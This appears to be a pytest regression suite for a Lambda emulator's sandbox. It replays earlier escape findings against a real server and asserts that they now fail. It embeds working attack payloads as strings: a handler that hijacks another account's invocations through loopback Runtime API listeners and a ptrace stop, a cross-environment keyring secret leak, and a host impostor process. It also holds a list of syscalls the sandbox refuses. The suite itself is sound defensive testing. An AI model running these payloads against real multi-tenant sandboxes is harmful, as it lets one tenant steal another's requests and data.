"""Attacks on the sandbox from inside a function (issue 12, findings 1 and 4): a real server, real
functions doing what the attacker did, another account as the victim."""

from __future__ import annotations

import json
import os
import platform
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import LAMBDA_TRUST, REGION, Server, free_port, memory_cgroup, server_env, unique, wait_until
from tests.runtime.conftest import deploy

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox needs root")

# Syscalls an environment must be refused (EPERM, as Docker's default profile answers), by arch.
REFUSED = {
    "x86_64": {"ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "add_key": 248,
               "request_key": 249, "keyctl": 250, "io_uring_setup": 425, "io_uring_enter": 426,
               "io_uring_register": 427, "userfaultfd": 323},
    "aarch64": {"ptrace": 117, "process_vm_readv": 270, "process_vm_writev": 271, "add_key": 217,
                "request_key": 218, "keyctl": 219, "io_uring_setup": 425, "io_uring_enter": 426,
                "io_uring_register": 427, "userfaultfd": 282},
}

# The attacker: a thread hunting for Runtime API listeners on loopback (any it is let into, it parks
# on /next and answers whatever event comes), while the handler makes itself a ptrace tracee of the
# zygote and stops, so that the zygote's reaper takes the stop for an exit.
ATTACKER = r'''
import ctypes, os, signal, socket, threading, time

libc = ctypes.CDLL(None, use_errno=True)
tried = set()


def _listeners():
    ports = set()
    with open("/proc/net/tcp") as f:
        for line in f.read().splitlines()[1:]:
            fields = line.split()
            ip, port = fields[1].split(":")
            if fields[3] == "0A" and ip == "0100007F":
                ports.add(int(port, 16))
    return ports


def _read_response(s):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            return None, {}, b""
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = dict((k.strip().lower(), v.strip()) for k, _, v in (l.partition(":") for l in lines[1:]))
    want = int(headers.get("content-length", "0"))
    while len(body) < want:
        chunk = s.recv(65536)
        if not chunk:
            break
        body += chunk
    return lines[0], headers, body


def _steal(port):
    while True:
        try:
            s = socket.create_connection(("127.0.0.1", port))
            s.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
            status, headers, body = _read_response(s)
            if not status or " 200 " not in status + " ":
                s.close()
                return
            rid = headers["lambda-runtime-aws-request-id"]
            answer = ('{"answered_by": "ghost", "stolen": %s}' % body.decode("latin-1")).encode()
            s.sendall(("POST /2018-06-01/runtime/invocation/%s/response HTTP/1.1\r\nHost: x\r\n"
                       "Content-Length: %d\r\n\r\n" % (rid, len(answer))).encode() + answer)
            _read_response(s)
            s.close()
        except (OSError, KeyError, ValueError):
            return


def _hunt():
    while True:
        for port in _listeners() - tried:
            tried.add(port)
            for _ in range(6):  # parked first, served first: outnumber the victim's runtime
                threading.Thread(target=_steal, args=(port,), daemon=True).start()
        time.sleep(0.01)


def handler(event, context):
    threading.Thread(target=_hunt, daemon=True).start()
    rc = libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME: the zygote becomes our tracer
    err = ctypes.get_errno()
    getattr(libc, "raise")(signal.SIGSTOP)  # a ptrace-stop, which the zygote's waitpid reports
    return {"ptrace": rc, "errno": err}
'''

# A provided.al2 runtime that says who answered: its uid and Runtime API address too, so a test can
# tell the victim's answers from a ghost's and aim a host process at the same listener.
VICTIM_BOOTSTRAP = r'''#!/bin/bash
set -euo pipefail
API="http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime"
while true; do
  HEADERS="$(mktemp)"
  EVENT=$(curl -sS -D "$HEADERS" "$API/invocation/next")
  REQUEST_ID=$(grep -Fi Lambda-Runtime-Aws-Request-Id "$HEADERS" | tr -d '[:space:]' | cut -d: -f2)
  rm -f "$HEADERS"
  curl -sS -o /dev/null "$API/invocation/$REQUEST_ID/response" \
    -d "{\"answered_by\": \"victim\", \"uid\": $(id -u), \"api\": \"$AWS_LAMBDA_RUNTIME_API\", \"event\": $EVENT}"
done
'''

SYSCALLS = r'''
import ctypes, errno, json


def handler(event, context):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    out = {}
    for name, nr in event["syscalls"].items():
        # harmless arguments: the filter answers before the kernel looks at them
        rc = libc.syscall(ctypes.c_long(nr), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0),
                          ctypes.c_long(0), ctypes.c_long(0))
        out[name] = [rc, errno.errorcode.get(ctypes.get_errno(), "")]
    return out
'''


@pytest.fixture
def own_server(tmp_path: Path) -> Iterator[Server]:
    """A server of one's own: which uid goes to which environment must not depend on other tests."""
    srv = Server(tmp_path / "data", free_port(), server_env())
    srv.start()
    yield srv
    srv.stop()


def _other_account(server: Server) -> tuple[str, dict[str, str]]:
    """A second account (`lambdad account create`), with an execution role of its own."""
    env = {**os.environ, "AWS_ACCESS_KEY_ID": "AKIATESTROOT00000001",
           "AWS_SECRET_ACCESS_KEY": "test-root-secret-key-for-lambdad-tests-0001", "AWS_DEFAULT_REGION": REGION}
    out = subprocess.run([sys.executable, "-m", "lambdad", "account", "create", unique("attacker"),
                          "--endpoint-url", server.endpoint], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    account = out.stdout.split("# account ", 1)[1].split(" ", 1)[0]
    values = dict(line.split(" = ", 1) for line in out.stdout.splitlines() if " = " in line)
    keys = {"key": values["aws_access_key_id"], "secret": values["aws_secret_access_key"]}
    iam = server.client("iam", **keys)
    iam.create_role(RoleName="lambda-role", AssumeRolePolicyDocument=LAMBDA_TRUST)
    return account, keys


def _invoke(lam: Any, name: str, event: Any) -> tuple[Any, str | None]:
    resp = lam.invoke(FunctionName=name, Payload=json.dumps(event))
    return json.loads(resp["Payload"].read()), resp.get("FunctionError")


@pytest.mark.skipif(platform.machine() not in REFUSED, reason="syscall numbers for x86_64 and aarch64 only")
def test_a_ptrace_stopped_environment_never_answers_another_accounts_invocations(own_server: Server) -> None:
    from tests.conftest import make_zip

    account, keys = _other_account(own_server)
    attacker_lam = own_server.client("lambda", **keys)
    attacker = unique("ghost")
    attacker_lam.create_function(FunctionName=attacker, Runtime="python3.12", Handler="app.handler", Timeout=2,
                                 Role=f"arn:aws:iam::{account}:role/lambda-role",
                                 Code={"ZipFile": make_zip({"app.py": ATTACKER})})
    attacker_lam.get_waiter("function_active_v2").wait(FunctionName=attacker, WaiterConfig={"Delay": 0.2})
    # Before the fix the zygote took the stop for an exit (Runtime.ExitError) while the ghost ran on;
    # now ptrace is refused, and pid 1 of its namespace cannot stop itself: the handler returns.
    attacked = _invoke(attacker_lam, attacker, {})

    # The victim: a custom runtime in the server's own account, started right after.
    lam = own_server.client("lambda")
    victim = deploy(lam, {"bootstrap": VICTIM_BOOTSTRAP}, runtime="provided.al2", Timeout=10)
    answers = [_invoke(lam, victim, {"n": n}) for n in range(8)]
    assert [a for a in answers if a[0].get("answered_by") != "victim"] == [], (attacked, answers)
    assert [a[0]["event"]["n"] for a in answers] == list(range(8))


@pytest.mark.skipif(platform.machine() not in REFUSED, reason="syscall numbers for x86_64 and aarch64 only")
def test_ptrace_process_vm_keyrings_io_uring_and_userfaultfd_are_refused_with_eperm(lam: Any) -> None:
    name = deploy(lam, {"app.py": SYSCALLS}, runtime="python3.12", handler="app.handler")
    syscalls = REFUSED[platform.machine()]
    out, error = _invoke(lam, name, {"syscalls": syscalls})
    assert error is None, out
    assert out == {call: [-1, "EPERM"] for call in syscalls}, out


def test_a_keyring_secret_does_not_reach_the_next_environment_of_its_uid(lam: Any) -> None:
    """The attack of finding 4 as it was done: add_key to the user keyring, read it from the next one."""
    code = r'''
import ctypes, errno


def handler(event, context):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    nr = {"x86_64": (248, 250), "aarch64": (217, 219)}[__import__("platform").machine()]
    if event["op"] == "store":
        secret = b"keyring-secret-0451"
        rc = libc.syscall(nr[0], b"user", b"lambdad-probe", secret, len(secret), -4)  # KEY_SPEC_USER_KEYRING
    else:
        buf = ctypes.create_string_buffer(4096)
        # KEYCTL_READ of the user keyring: ids of every key in it
        rc = libc.syscall(nr[1], 11, -4, buf, 4096)
    return {"rc": rc, "errno": errno.errorcode.get(ctypes.get_errno(), "") if rc < 0 else ""}
'''
    if platform.machine() not in REFUSED:
        pytest.skip("syscall numbers for x86_64 and aarch64 only")
    name = deploy(lam, {"app.py": code}, runtime="python3.12", handler="app.handler")
    assert _invoke(lam, name, {"op": "store"}) == ({"rc": -1, "errno": "EPERM"}, None)
    assert _invoke(lam, name, {"op": "read"}) == ({"rc": -1, "errno": "EPERM"}, None)


def test_doctor_lists_the_refused_syscalls(tmp_path: Path) -> None:
    out = subprocess.run([sys.executable, "-m", "lambdad", "doctor", "--data-dir", str(tmp_path)],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    if platform.machine() not in REFUSED:
        assert re.search(r"seccomp\s+OFF", out.stdout), out.stdout
        return
    line = next((line for line in out.stdout.splitlines() if re.match(r"\s*seccomp\s", line)), "")
    assert re.search(r"seccomp\s+active", line), out.stdout
    for name in ("CLONE_NEWUSER", *REFUSED[platform.machine()]):
        assert re.search(rf"\b{name}\b", line), (name, line)
    assert "EPERM" in line


# -- each link of finding 1 on its own ------------------------------------------------------------------
REAPER = r'''
import ctypes, json, os, signal, sys, time
sys.path.insert(0, sys.argv[1])
import frames

pid = os.fork()
if pid == 0:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME: the parent is the tracer
    getattr(libc, "raise")(signal.SIGSTOP)
    os._exit(5)
deadline = time.monotonic() + 20
while open("/proc/%d/stat" % pid).read().rsplit(")", 1)[1].split()[0] != "t" and time.monotonic() < deadline:
    time.sleep(0.01)  # until it is in its ptrace-stop
stopped = [p for p, _status, _fields in frames.reaped_children()]
os.kill(pid, signal.SIGKILL)
ended = []
while not ended and time.monotonic() < deadline:
    ended = [(p, fields) for p, _status, fields in frames.reaped_children()]
    time.sleep(0.01)
print(json.dumps([pid, stopped, ended]))
'''


def test_the_reaper_never_takes_a_ptrace_stop_for_an_exit(tmp_path: Path) -> None:
    guest = Path(__file__).resolve().parents[2] / "src" / "lambdad" / "runtime" / "guest"
    out = subprocess.run([sys.executable, "-c", REAPER, str(guest)], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    pid, stopped, ended = json.loads(out.stdout)
    assert stopped == [], "a stopped child is still running"
    assert ended == [[pid, {"code": None, "signal": 9}]]


def test_a_uid_is_reused_first_in_first_out_and_never_while_a_process_runs_as_it(tmp_path: Path) -> None:
    from lambdad import config
    from lambdad.runtime import sandbox_host

    cfg = config.resolve({"data_dir": str(tmp_path)}, environ={})
    host = sandbox_host.SandboxHost(cfg, sandbox_host.probe(cfg), uid_block=3)
    host.start()
    try:
        assert host.enabled
        a, b, c = (host.allocate_uid() for _ in range(3))
        assert len({a, b, c}) == 3
        ghost = subprocess.Popen(["sleep", "600"], user=a, group=a)
        try:
            assert wait_until(lambda: a in sandbox_host.uids_in_use())
            host.release_uid(b)
            host.release_uid(a)  # released last, but a process still runs as it
            assert host.allocate_uid() == b
            with pytest.raises(RuntimeError):
                host.allocate_uid()
            host.release_uid(c)
            assert host.allocate_uid() == c
        finally:
            ghost.kill()
            ghost.wait()
        assert host.allocate_uid() == a, "free once nothing runs as it"
    finally:
        host.close()


def test_the_runtime_api_refuses_a_process_of_the_same_uid_outside_the_environment(lam: Any) -> None:
    name = deploy(lam, {"bootstrap": VICTIM_BOOTSTRAP}, runtime="provided.al2", Timeout=3)
    first, error = _invoke(lam, name, {"n": 0})
    assert error is None and first["answered_by"] == "victim", first
    uid, api = first["uid"], first["api"]
    # A process running as the environment's uid, on the host (not in its cgroup), parks on /next.
    impostor = subprocess.Popen(["curl", "-sS", "-m", "30", f"http://{api}/2018-06-01/runtime/invocation/next"],
                                user=uid, group=uid, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                env={"PATH": "/usr/bin:/bin"})
    try:
        answers = [_invoke(lam, name, {"n": n}) for n in range(1, 4)]
        assert [a for a in answers if a[0].get("answered_by") != "victim"] == [], answers
        stdout, stderr = impostor.communicate(timeout=60)
    finally:
        if impostor.poll() is None:
            impostor.kill()
            impostor.wait()
    assert stdout == b"", "the impostor was never handed an event"
    assert impostor.returncode in (52, 56), stderr  # curl: empty reply or reset: the server closed it


ENDS = r'''
import os


def handler(event, context):
    if event.get("exit"):
        os._exit(3)
    return {"cgroup": open("/proc/self/cgroup").read()}
'''


def test_an_ended_environment_takes_everything_in_its_cgroup_with_it(lam: Any) -> None:
    name = deploy(lam, {"app.py": ENDS}, runtime="python3.12", handler="app.handler")
    memory = Path(memory_cgroup(_invoke(lam, name, {})[0]))
    rel = memory.relative_to("/sys/fs/cgroup/memory")
    # Something of the environment that outlives its pid 1 (its pid namespace would take any
    # descendant along; a process put there from outside stands for whatever else could be left).
    left = subprocess.Popen(["sleep", "600"])
    try:
        for ctrl in ("memory", "pids", "cpu", "freezer"):
            (Path("/sys/fs/cgroup") / ctrl / rel / "cgroup.procs").write_text(str(left.pid))
        _payload, error = _invoke(lam, name, {"exit": True})
        assert error == "Unhandled"
        assert wait_until(lambda: left.poll() is not None, 20), "the environment ended: its cgroup is emptied"
        assert left.returncode == -9
        assert wait_until(lambda: not memory.exists(), 20)
    finally:
        if left.poll() is None:
            left.kill()
            left.wait()
